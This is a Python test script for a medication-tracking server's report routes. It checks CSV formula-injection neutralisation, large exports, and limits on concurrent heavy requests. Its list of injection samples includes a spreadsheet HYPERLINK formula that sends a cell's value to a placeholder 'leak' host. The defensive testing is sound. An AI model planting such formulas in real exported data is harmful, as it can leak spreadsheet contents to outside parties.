#!/usr/bin/env python3
"""Black-box tests of the limits around the report routes, on the dialect in
MT_TEST_DIALECT, against the real `meditrack serve`:

* CSV formula injection: medication names and dosages that a spreadsheet
  would evaluate (=HYPERLINK(...), +1, -2, @SUM, a leading tab or CR) get a
  leading apostrophe in the CSV export (quoted as RFC 4180 requires); the
  JSON export carries them unchanged.
* A large history (100,000 doses, loaded with one INSERT ... SELECT through
  the dialect's own client) exports completely and correctly, byte for byte
  against the expected document; the server's peak memory (VmHWM) before
  and after is printed.
* The heavy-work limit (HEAVY_CONCURRENCY=1, a short HEAVY_QUEUE_WAIT_MS):
  concurrent exports and PDF forms each get either 200 with the full,
  correct document or 503 with Retry-After and a JSON detail, never 500 or a
  cut body, while ordinary requests keep being answered; with a long queue
  wait, a queued export gets its turn.

Python 3 stdlib plus the psql / mariadb command-line clients. Last line:
"N passed, N failed"."""

import csv
import datetime
import io
import json
import os
import sqlite3
import subprocess
import sys
import threading
import time
import urllib.parse

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import apilib  # noqa: E402
from apilib import check  # noqa: E402

DIALECT = apilib.DIALECT
BULK = 100_000  # doses of the large history, one a minute from BASE
BASE = datetime.datetime(2020, 1, 1)
CSV_HEADER = ("date,local_time,taken_at_utc,medication,dosage,deleted,status,status_reason,"
              "override_rule,override_reason,note,recorded_by\r\n")

# Names a spreadsheet would run, and how the CSV export must write them.
INJECTIONS = [
    ('=HYPERLINK("http://x.invalid/?leak="&A1,"Click")',
     '"\'=HYPERLINK(""http://x.invalid/?leak=""&A1,""Click"")"'),
    ("+1", "'+1"),
    ("-2", "'-2"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\tTabbed", "'\tTabbed"),
    ("\rCarriage", '"\'\rCarriage"'),
    ("=1+2, then more", '"\'=1+2, then more"'),
]


def q(params):
    return urllib.parse.urlencode(params)


def vmhwm_kib(pid):
    """Peak resident set size of a process, in KiB."""
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmHWM:"):
                return int(line.split()[1])
    return -1


def sanitized():
    out = subprocess.run(["ldd", apilib.MEDITRACK], capture_output=True, text=True).stdout
    return "libasan" in out


# ---- loading a large history straight into the database ---------------------------------

def run_sql(url, sql):
    """Runs sql on the server's database with the dialect's own client."""
    if DIALECT == "sqlite":
        con = sqlite3.connect(url[len("sqlite:///"):], timeout=30)
        try:
            con.executescript(sql)
            con.commit()
        finally:
            con.close()
        return
    if DIALECT == "postgresql":
        p = subprocess.run(["psql", "-q", "-v", "ON_ERROR_STOP=1", url], input=sql,
                           capture_output=True, text=True)
    else:
        u = urllib.parse.urlsplit(url)
        env = dict(os.environ, MYSQL_PWD=urllib.parse.unquote(u.password or ""))
        p = subprocess.run(["mariadb", "--no-defaults", "-h", u.hostname, "-P", str(u.port),
                            "-u", urllib.parse.unquote(u.username), u.path.lstrip("/")],
                           input=sql, capture_output=True, text=True, env=env)
    if p.returncode != 0:
        raise RuntimeError(f"loading doses failed: {p.stderr[-500:]}")


def load_history(url, med_id, n):
    """n doses of med_id, one a minute from BASE, made by the database."""
    if DIALECT == "sqlite":
        sql = (f"WITH RECURSIVE s(n) AS (SELECT 0 UNION ALL SELECT n + 1 FROM s WHERE n < {n - 1})"
               f" INSERT INTO doses (medication_id, taken_at) SELECT {med_id},"
               f" datetime('2020-01-01 00:00:00', '+' || n || ' minutes') FROM s;")
    elif DIALECT == "postgresql":
        sql = ("SET TIME ZONE 'UTC';"
               f" INSERT INTO doses (medication_id, taken_at) SELECT {med_id},"
               f" timestamp '2020-01-01 00:00:00' + g * interval '1 minute'"
               f" FROM generate_series(0, {n - 1}) g;")
    else:
        digits = " UNION ALL ".join(f"SELECT {i} AS d" for i in range(10))
        parts = ", ".join(f"({digits}) t{k}" for k in range(6))
        num = " + ".join(f"t{k}.d * {10 ** k}" for k in range(6))
        sql = ("SET time_zone = '+00:00';"
               f" INSERT INTO doses (medication_id, taken_at) SELECT {med_id},"
               f" TIMESTAMPADD(MINUTE, n, '2020-01-01 00:00:00')"
               f" FROM (SELECT {num} AS n FROM {parts}) s WHERE n < {n};")
    run_sql(url, sql)


def expected_csv(name, dosage, n):
    rows = [CSV_HEADER]
    for i in range(n):
        t = BASE + datetime.timedelta(minutes=i)
        rows.append(f"{t:%Y-%m-%d},{t:%H:%M:%S},{t:%Y-%m-%dT%H:%M:%S}Z,{name},{dosage},false,"
                    "taken,,,,,\r\n")
    return "".join(rows).encode("utf-8")


# ---- the suites -----------------------------------------------------------------------------

def injection_tests(srv):
    r = srv.post("/api/v1/persons/", {"first_name": "=Formula", "last_name": "Person"})
    check("inject: create person", r.status == 201, repr(r))
    pid = r.json()["id"]
    day = "2024-03-05"
    mids = []
    for i, (name, _) in enumerate(INJECTIONS):
        r = srv.post("/api/v1/medications/", {
            "person_id": pid, "name": name, "dosage": ["=2+3", "-5 ml", "@x"][i % 3],
            "frequency": "daily", "max_doses_per_day": 3})
        check(f"inject: medication {name!r} accepted", r.status == 201, repr(r))
        mid = r.json()["id"]
        mids.append(mid)
        r = srv.post(f"/api/v1/doses/medications/{mid}/dose/{day}?" +
                     q({"time": f"08:{i:02d}", "timezone_offset": 0}))
        check(f"inject: dose of {name!r}", r.status == 201, repr(r))
    params = {"person_id": pid, "from": day, "to": day, "timezone_offset": 0}

    r = srv.get("/api/v1/reports/doses.csv?" + q(params))
    check("inject csv: 200", r.status == 200, repr(r))
    text = r.body.decode("utf-8")
    for i, (name, written) in enumerate(INJECTIONS):
        want = f"{day},08:{i:02d}:00,{day}T08:{i:02d}:00Z,{written},"
        check(f"inject csv: {name!r} written as {written!r}", want in text,
              f"{want!r} not in {text[:1500]!r}")
    rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
    check("inject csv: a CSV reader sees each name with one leading apostrophe",
          [row[3] for row in rows] == ["'" + name for name, _ in INJECTIONS], rows)
    check("inject csv: dosages neutralised too",
          [row[4] for row in rows] == ["'" + ["=2+3", "-5 ml", "@x"][i % 3]
                                       for i in range(len(INJECTIONS))], rows)
    check("inject csv: no cell starts with a formula character",
          all(not cell or cell[0] not in "=+-@\t\r" for row in rows for cell in row), rows)

    r = srv.get("/api/v1/reports/doses.json?" + q(params))
    j = r.json()
    check("inject json: 200", r.status == 200 and j is not None, repr(r))
    if j:
        check("inject json: names unchanged",
              [d["medication_name"] for d in j["doses"]] == [n for n, _ in INJECTIONS],
              j["doses"])
        check("inject json: person name unchanged", j["person_name"] == "=Formula Person",
              j["person_name"])

    # A deleted medication keeps its name, and it is neutralised as well.
    r = srv.delete(f"/api/v1/medications/{mids[3]}")
    check("inject: delete a medication", r.status == 204, repr(r))
    r = srv.get("/api/v1/reports/doses.csv?" + q(params))
    rows = list(csv.reader(io.StringIO(r.body.decode("utf-8"), newline="")))[1:]
    gone = [row for row in rows if row[5] == "true"]
    check("inject csv: deleted medication's name neutralised",
          [row[3] for row in gone] == ["'@SUM(A1:A9)"], rows)


def bulk_person(srv):
    r = srv.post("/api/v1/persons/", {"first_name": "Bulk", "last_name": "History"})
    pid = r.json()["id"]
    r = srv.post("/api/v1/medications/", {"person_id": pid, "name": "Metformin",
                                          "dosage": "500 mg", "frequency": "daily",
                                          "max_doses_per_day": 20})
    check("bulk: create medication", r.status == 201, repr(r))
    mid = r.json()["id"]
    t0 = time.time()
    load_history(srv.url, mid, BULK)
    print(f"# loaded {BULK} doses in {time.time() - t0:.1f} s")
    return pid


def export_path(pid, fmt="csv", to="2020-12-31"):
    return f"/api/v1/reports/doses.{fmt}?" + q({"person_id": pid, "from": "2020-01-01",
                                                 "to": to, "timezone_offset": 0})


def large_export_tests(srv, pid, want):
    hwm0 = vmhwm_kib(srv.proc.pid)
    t0 = time.time()
    r = srv.get(export_path(pid), timeout=300)
    secs = time.time() - t0
    hwm1 = vmhwm_kib(srv.proc.pid)
    check("large csv: 200", r.status == 200, repr(r)[:300])
    check(f"large csv: all {BULK} rows, byte for byte", r.body == want,
          f"{len(r.body)} bytes, want {len(want)}")
    print(f"# csv export of {BULK} doses: {len(r.body)} bytes in {secs:.2f} s; server VmHWM "
          f"{hwm0} KiB before, {hwm1} KiB after (+{hwm1 - hwm0} KiB)")
    if not sanitized():
        # Without the sanitizers' quarantine the peak tracks what is held:
        # a streamed result needs no copy of it per row.
        check("large csv: peak memory grows by less than 64 MiB", hwm1 - hwm0 < 64 * 1024,
              f"+{hwm1 - hwm0} KiB")

    # The JSON export of the first 20,000 doses, in order.
    r = srv.get(export_path(pid, "json", "2020-01-14"), timeout=300)
    j = r.json()
    check("large json: 200", r.status == 200 and j is not None, repr(r)[:300])
    if j:
        n = 13 * 24 * 60 + 24 * 60  # 2020-01-01 .. 2020-01-14, a dose a minute
        doses = j["doses"]
        check(f"large json: {n} doses", len(doses) == n, len(doses))
        check("large json: oldest first, a minute apart, every field",
              all(d["taken_at"] == f"{BASE + datetime.timedelta(minutes=i):%Y-%m-%dT%H:%M:%S}Z"
                  and d["medication_name"] == "Metformin" and d["dosage"] == "500 mg"
                  and not d["deleted"] for i, d in enumerate(doses)))


def fetch_all(srv, paths, timeout=300):
    """GETs every path at once, each on its own connection; returns the
    responses (or exceptions) in order."""
    out = [None] * len(paths)

    def one(i, p):
        try:
            out[i] = srv.get(p, timeout=timeout)
        except Exception as e:  # noqa: BLE001 - reported as a failed check
            out[i] = e

    ts = [threading.Thread(target=one, args=(i, p)) for i, p in enumerate(paths)]
    for t in ts:
        t.start()
    return ts, out


def busy_ok(label, r):
    """A refused heavy request: 503, JSON detail, Retry-After seconds."""
    ra = r.headers.get("retry-after", "")
    return check(f"{label}: 503 with Retry-After and a JSON detail",
                 r.status == 503 and ra.isdigit() and int(ra) >= 1 and
                 isinstance((r.json() or {}).get("detail"), str), f"{r!r} {r.headers}")


def concurrency_tests(srv, pid, want):
    """HEAVY_CONCURRENCY=1 and a 300 ms queue: of 6 concurrent exports and 2
    PDF forms one runs, one may wait; every answer is complete or a clean
    503, and ordinary requests go on meanwhile."""
    pdf = "/api/v1/reports/medications/pdf/2020-01-01?" + q(
        {"person_id": pid, "days": 7, "prefill": "true", "timezone_offset": 0})
    paths = [export_path(pid)] * 6 + [pdf] * 2
    latencies, statuses = [], []
    stop = threading.Event()

    def ordinary():
        while not stop.is_set():
            for p in ("/health", "/api/v1/persons/"):
                t0 = time.time()
                try:
                    statuses.append(srv.get(p, timeout=30).status)
                except OSError as e:
                    statuses.append(repr(e))
                latencies.append(time.time() - t0)
            time.sleep(0.02)

    side = threading.Thread(target=ordinary)
    side.start()
    ts, out = fetch_all(srv, paths)
    for t in ts:
        t.join()
    stop.set()
    side.join()

    n200 = n503 = 0
    for i, r in enumerate(out):
        label = f"concurrent {'pdf' if paths[i] == pdf else 'csv'} #{i}"
        if not check(f"{label}: answered", isinstance(r, apilib.Response), repr(r)):
            continue
        if r.status == 200:
            n200 += 1
            if paths[i] == pdf:
                check(f"{label}: a whole PDF", r.body.startswith(b"%PDF-") and
                      r.body.rstrip().endswith(b"%%EOF"), r.body[:20])
            else:
                check(f"{label}: the whole export, byte for byte", r.body == want,
                      f"{len(r.body)} bytes, want {len(want)}")
        elif r.status == 503:
            n503 += 1
            busy_ok(label, r)
        else:
            check(f"{label}: 200 or 503", False, repr(r)[:300])
    check("concurrent: some ran", n200 >= 1, f"{n200} x 200")
    check("concurrent: the excess was refused", n503 >= 1, f"{n503} x 503")
    check("concurrent: ordinary requests answered meanwhile",
          len(statuses) >= 2 and all(s == 200 for s in statuses), statuses[:20])
    worst = max(latencies) if latencies else 0
    print(f"# concurrent: {n200} x 200, {n503} x 503; {len(statuses)} ordinary requests meanwhile,"
          f" slowest {worst * 1000:.0f} ms")
    check("concurrent: ordinary requests stay quick (< 5 s)", worst < 5, f"{worst:.1f} s")


def queue_tests(srv, pid, want):
    """With a long queue wait the second export waits for its turn."""
    ts, out = fetch_all(srv, [export_path(pid)] * 2)
    for t in ts:
        t.join()
    for i, r in enumerate(out):
        ok = isinstance(r, apilib.Response) and r.status == 200 and r.body == want
        check(f"queued export #{i}: 200, the whole export", ok, repr(r)[:300])


def main():
    srv = apilib.Server("t061", {"HEAVY_CONCURRENCY": "1", "HEAVY_QUEUE_WAIT_MS": "300"})
    second = None
    try:
        injection_tests(srv)
        pid = bulk_person(srv)
        want = expected_csv("Metformin", "500 mg", BULK)
        large_export_tests(srv, pid, want)
        concurrency_tests(srv, pid, want)
        # The same database, served with a long queue wait.
        second = apilib.Server("t061q", {"DATABASE_URL": srv.url, "HEAVY_CONCURRENCY": "1",
                                         "HEAVY_QUEUE_WAIT_MS": "60000"})
        queue_tests(second, pid, want)
        check("server still answers", srv.alive())
    finally:
        if second:
            second.stop()
        srv.stop()
    apilib.report()


if __name__ == "__main__":
    main()
